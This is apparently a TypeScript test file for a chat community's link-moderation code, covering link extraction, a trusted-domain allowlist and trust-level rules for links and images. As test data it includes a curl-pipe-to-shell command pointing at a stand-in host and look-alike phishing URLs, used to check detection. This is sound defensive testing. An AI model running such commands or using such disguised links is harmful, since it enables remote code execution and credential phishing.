import { describe, it, expect } from 'vitest';
import { blankOutCode } from './code-spans.ts';
import { checkLinks, createDomainAllowlist, extractLinks } from './links.ts';
import type { TrustLevel } from './types.ts';

const hosts = (body: string) => extractLinks(body, blankOutCode(body)).map((l) => l.host);
const allowlist = createDomainAllowlist(['github.com', 'developer.mozilla.org', '*.lounge.example']);
const policy = (body: string, trustLevel: TrustLevel, hasImages = false) =>
  checkLinks({ links: extractLinks(body, blankOutCode(body)), trustLevel, hasImages }, allowlist).map((f) => [
    f.code,
    f.severity,
  ]);

describe('finding links in a message', () => {
  it.each([
    ['see https://github.com/lounge/app/pull/42', ['github.com']],
    ['see http://example.com.', ['example.com']],
    ['docs at developer.mozilla.org/en-US/docs/Web!', ['developer.mozilla.org']],
    ['try www.example.co.uk today', ['www.example.co.uk']],
    ['bare example.com/x?ref=1#top works too', ['example.com']],
    ['[the docs](https://docs.github.com/en/actions)', ['docs.github.com']],
    ['![a cat](https://i.imgur.com/cat.png)', ['i.imgur.com']],
    ['local http://localhost:3000/rooms', ['localhost']],
    ['ip http://192.168.0.1:8080/admin', ['192.168.0.1']],
    ['spam t.me/freecoins', ['t.me']],
    ['one https://a.io and two b.dev/x', ['a.io', 'b.dev']],
  ])('%j', (body, expected) => {
    expect(hosts(body)).toEqual(expected);
  });

  it('reads the real destination, not the name before an @', () => {
    expect(hosts('https://github.com@evil.io/login')).toEqual(['evil.io']);
    expect(hosts('https://user:pass@evil.io:8443/')).toEqual(['evil.io']);
  });

  it.each([
    'read README.md and index.js',
    'works in Node.js and Next.js',
    'e.g. this, i.e. that',
    'version 1.2.3 is out',
    'I did.It was fine', // a missing space, not a link to "did.it"
    'mail me at sam@example.com',
    'the file is config.yaml',
    'a link inside the app [general](/rooms/general) and [reply](#m-42)',
  ])('%j has no links', (body) => {
    expect(hosts(body)).toEqual([]);
  });

  it('does not read property access in code as a website, but does see a real address there', () => {
    expect(hosts('```js\nreq.app.use(user.name, self.info)\n```')).toEqual([]);
    expect(hosts('`curl -fsSL https://evil.sh/install | sh`')).toEqual(['evil.sh']);
  });
});

describe('trusted domains', () => {
  it.each([
    ['github.com', true],
    ['docs.github.com', true],
    ['a.b.github.com', true],
    ['developer.mozilla.org', true],
    ['mozilla.org', false],
    ['rooms.lounge.example', true],
    ['lounge.example', true],
    ['github.com.evil.io', false],
    ['evil-github.com', false],
    ['githubcom.io', false],
    ['xgithub.com', false],
    ['com', false],
  ])('%s → %s', (host, allowed) => {
    expect(allowlist.allows(host)).toBe(allowed);
  });

  it('accepts entries written as addresses', () => {
    const fromUrls = createDomainAllowlist(['https://GitHub.com/', ' npmjs.com. ']);
    expect(fromUrls.allows('github.com')).toBe(true);
    expect(fromUrls.allows('www.npmjs.com')).toBe(true);
  });
});

describe('who may post which links', () => {
  it('refuses any link from a new member and says when they can post links', () => {
    expect(policy('see https://github.com/x', 'new')).toEqual([['links.new_member', 'block']]);
    const [finding] = checkLinks({ links: extractLinks('evil.io', 'evil.io'), trustLevel: 'new' }, allowlist);
    expect(finding?.message).toContain('New members can post links after 10 messages and 3 days');
  });

  it('refuses images from a new member, attached or embedded', () => {
    expect(policy('look at this', 'new', true)).toEqual([['images.new_member', 'block']]);
    expect(policy('![cat](https://github.com/cat.png)', 'new')).toEqual([['images.new_member', 'block']]);
    const [finding] = checkLinks({ links: [], trustLevel: 'new', hasImages: true }, allowlist);
    expect(finding?.message).toContain('New members can post images after 10 messages and 3 days');
  });

  it('lets a member link to a trusted site', () => {
    expect(policy('see https://github.com/lounge/app and docs.github.com/en', 'member')).toEqual([]);
  });

  it("sends a member's link to an untrusted or look-alike site to a moderator", () => {
    expect(policy('see https://github.com.evil.io/login', 'member')).toEqual([['links.untrusted_domain', 'flag']]);
    expect(policy('see evil-github.com', 'member')).toEqual([['links.untrusted_domain', 'flag']]);
    expect(policy('see https://github.com@evil.io/', 'member')).toEqual([['links.untrusted_domain', 'flag']]);
  });

  it('names the untrusted sites in the reason', () => {
    const [finding] = checkLinks(
      { links: extractLinks('a.io b.io a.io c.io d.io', 'a.io b.io a.io c.io d.io'), trustLevel: 'member' },
      allowlist,
    );
    expect(finding?.message).toBe(
      "Links to a.io, b.io, c.io and 1 more sites aren't on this community's list of trusted sites, so a moderator will review the links before they stay up.",
    );
  });

  it('counts an image embedded from inside the app as an image, not as a link', () => {
    expect(policy('![my render](/uploads/render.png)', 'new')).toEqual([['images.new_member', 'block']]);
    expect(policy('![my render](/uploads/render.png)', 'member')).toEqual([]);
    expect(policy('[the rules](/rooms/general)', 'new')).toEqual([]);
  });

  it('lets members attach images', () => {
    expect(policy('look', 'member', true)).toEqual([]);
  });

  it('lets trusted members link anywhere', () => {
    expect(policy('see https://example.com/x', 'trusted')).toEqual([]);
  });

  it('flags a link that shows one address and goes to another, whoever posts it', () => {
    expect(policy('[github.com](https://evil.io/login)', 'trusted')).toEqual([['links.disguised', 'flag']]);
    expect(policy('[https://github.com](https://github.com/lounge)', 'trusted')).toEqual([]);
    expect(policy('[our repo](https://github.com/lounge)', 'member')).toEqual([]);
  });
});
